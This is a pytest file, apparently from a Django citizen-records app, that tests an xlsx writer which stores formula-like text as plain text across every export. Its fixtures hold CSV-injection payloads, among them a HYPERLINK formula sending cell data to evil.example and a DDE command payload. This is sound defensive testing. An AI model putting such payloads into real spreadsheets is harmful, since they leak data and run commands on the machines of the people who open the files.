"""One safe cell writer for every xlsx the app produces: text that a spreadsheet would
run as a formula ("=", "+", "-", "@", tab, CR first) is stored as text, unchanged.

The end-to-end test feeds such names through a police-list import, then downloads
every xlsx a user can take away (worklist, the plan's lists, the indicator table,
reports, templates, the error file) and opens each with openpyxl.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from chiendich.accounts.roles import Role
from chiendich.conftest import COMMUNE_A
from chiendich.core import xlsx
from chiendich.imports.kinds import kind_template, kinds
from chiendich.imports.models import ImportJob, JobState
from chiendich.imports.services import job_confirm, job_upload
from chiendich.reporting.schedule import reports_expect
from chiendich.units.models import Level, Unit
from chiendich.units.services import unit_upsert
from chiendich.vneid.models import Citizen

# What a spreadsheet would run: a link that sends the neighbouring cell away, a sum,
# arithmetic, and the DDE payload of the OWASP "CSV injection" page.
EVIL_NAMES = (
    '=HYPERLINK("http://evil.example/?d="&B2,"open")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
)
EVIL_HAMLET = '=HYPERLINK("http://evil.example/","Ấp Một")'
EVIL_STATUS = "=1+1"  # not a status the import knows: it lands in the error file
HEADER = [
    "Số định danh cá nhân",
    "Họ và tên",
    "Ngày sinh",
    "Giới tính",
    "Mã xã",
    "Ấp/Khu phố",
    "Mã hộ",
    "Số điện thoại",
    "Trạng thái",
    "Ngày cập nhật",
]


# --- the writer ----------------------------------------------------------------------------------


def _reopen(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("write_only", [False, True])
def test_text_is_text_and_numbers_stay_numbers(write_only: bool) -> None:
    values = [*EVIL_NAMES, "\tTab", "\rCR", "#N/A", "Nguyễn Văn A", -5, 3.5, dt.date(2023, 9, 1)]
    book = openpyxl.Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    xlsx.append(sheet, values)
    if write_only:
        out = io.BytesIO()
        book.save(out)
        data = out.getvalue()
    else:
        data = xlsx.save(book)
    cells = list(_reopen(data).worksheets[0].iter_rows())[0]
    assert [c.data_type for c in cells] == ["s"] * 9 + ["n", "n", "d"]
    # Excel's quote prefix keeps a formula-like text a text when the cell is edited.
    assert [c.quotePrefix for c in cells[:7]] == [True] * 7
    assert not cells[8].quotePrefix and not cells[9].quotePrefix
    # XML keeps no bare CR: it reads back as a line break, still text.
    assert [c.value for c in cells] == [
        *EVIL_NAMES,
        "\tTab",
        "\nCR",
        "#N/A",
        "Nguyễn Văn A",
        -5,
        3.5,
        dt.datetime(2023, 9, 1),  # noqa: DTZ001 - xlsx dates are naive
    ]


def test_save_turns_a_formula_written_around_the_writer_back_into_text() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["=1+1", "+2", 7])  # plain openpyxl: "=1+1" would be a formula
    assert sheet["A1"].data_type == "f"
    cells = list(_reopen(xlsx.save(book)).active.iter_rows())[0]
    assert [(c.value, c.data_type) for c in cells] == [("=1+1", "s"), ("+2", "s"), (7, "n")]


# --- every export, after an import of such names -------------------------------------------------


def police_csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADER)
    writer.writerows(rows)
    return ("\ufeff" + out.getvalue()).encode()


def _id(serial: int) -> str:
    return f"082090{serial:06d}"  # a man born in the 1990s, as cccd() in the imports tests


@pytest.fixture
def imported(tien_giang: Unit, make_user: Any, settings: Any, tmp_path: Path) -> dict[str, Any]:
    """Commune A with a hamlet of an evil name, and a police list whose names are
    formulas: each name twice, approved (the worklist) and activated (the lists)."""
    settings.DATA_DIR = tmp_path / "data"
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    settings.CAMPAIGN_TODAY = "2023-10-18"
    commune = Unit.objects.get(code=COMMUNE_A)
    unit_upsert(
        code=f"{COMMUNE_A}-01", name=EVIL_HAMLET, unit_type="ap", level=Level.HAMLET, parent=commune
    )
    rows = []
    for n, name in enumerate(EVIL_NAMES):
        for offset, state in ((0, "Đã duyệt"), (50, "Đã kích hoạt mức 1")):
            serial = 300 + n + offset
            rows.append(
                [
                    _id(serial),
                    name,
                    "01/02/1990",
                    "Nam",
                    COMMUNE_A,
                    EVIL_HAMLET,
                    f"H{n}",
                    f"091{serial:07d}",
                    state,
                    "01/09/2023",
                ]
            )
    # One bad row: its status is a formula, so the error file holds it as a value.
    rows.append(
        [_id(399), "Sai Trạng Thái", "01/02/1990", "Nam", COMMUNE_A, "", "", "", EVIL_STATUS, ""]
    )
    police = make_user(Role.POLICE_COMMUNE, COMMUNE_A)
    job = job_upload(
        acting_user=police, kind="citizens", file_name="ds.csv", chunks=[police_csv(rows)]
    )
    assert job.state == JobState.CHECKED, job.check_report
    job = job_confirm(acting_user=police, job=job)
    assert job.state == JobState.DONE, job.import_report
    names = set(Citizen.objects.values_list("full_name", flat=True))
    assert set(EVIL_NAMES) <= names, names
    return {"police": police, "job": job}


def downloads(job: ImportJob, hamlet: str, *, district: bool) -> Iterator[tuple[str, str]]:
    """(what, URL) of every xlsx a user downloads; a district's too if `district`."""
    yield "worklist", reverse("field:worklist-xlsx", args=[hamlet])
    yield "hamlet lists", reverse("field:lists", args=[hamlet]) + "?xuat=xlsx"
    yield "commune lists", reverse("field:lists", args=[COMMUNE_A]) + "?xuat=xlsx"
    for code in (COMMUNE_A, hamlet, *(["815"] if district else [])):
        yield f"indicators of {code}", reverse("web:unit-xlsx", args=[code]) + "?ngay=2023-10-18"
    reports = [f"vneid_final.{COMMUNE_A}.20231025"]
    if district:
        reports += ["vneid_daily.815.20230915", "vneid_weekly.82.20230918"]
    for report in reports:
        yield f"report {report}", reverse("reporting:report-download", args=[report, "xlsx"])
    yield "error file", reverse("imports:job", args=[job.uuid]) + "?xuat=loi"
    for kind in kinds():
        if kind_template(kind) is not None:  # a results zip has no template
            yield f"template {kind}", reverse("imports:template", args=[kind])
    for name in ("danh-sach-cong-dan.xlsx", "ho-so-tthc.xlsx"):
        yield f"template {name}", reverse("web:import-template", args=[name])


def _content(response: Any) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


@pytest.mark.parametrize(
    ("role", "unit"),
    [
        (Role.POLICE_COMMUNE, COMMUNE_A),
        (Role.COMMUNE_OFFICER, COMMUNE_A),
        (Role.PROVINCE_ADMIN, "82"),
    ],
)
def test_no_export_holds_a_formula_and_the_names_read_as_imported(
    imported: dict[str, Any], plan_383: Any, make_user: Any, role: Role, unit: str
) -> None:
    reports_expect(plan_383)
    client = Client()
    client.force_login(make_user(role, unit))
    seen: dict[str, set[str]] = {}
    for what, url in downloads(imported["job"], f"{COMMUNE_A}-01", district=unit == "82"):
        response = client.get(url)
        assert response.status_code == 200, (what, url, response.status_code)
        book = _reopen(_content(response))
        texts = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{what}: {sheet.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        texts.add(cell.value)
                        if cell.value.startswith(xlsx.FORMULA_STARTS):
                            assert cell.quotePrefix, f"{what}: {sheet.title}!{cell.coordinate}"
        seen[what] = texts
    # The names are there, exactly as the police list wrote them.
    for what in ("worklist", "hamlet lists", "commune lists"):
        assert set(EVIL_NAMES) <= seen[what], what
    assert EVIL_HAMLET in seen["commune lists"]
    assert EVIL_HAMLET in seen[f"indicators of {COMMUNE_A}"]
    assert EVIL_STATUS in seen["error file"]
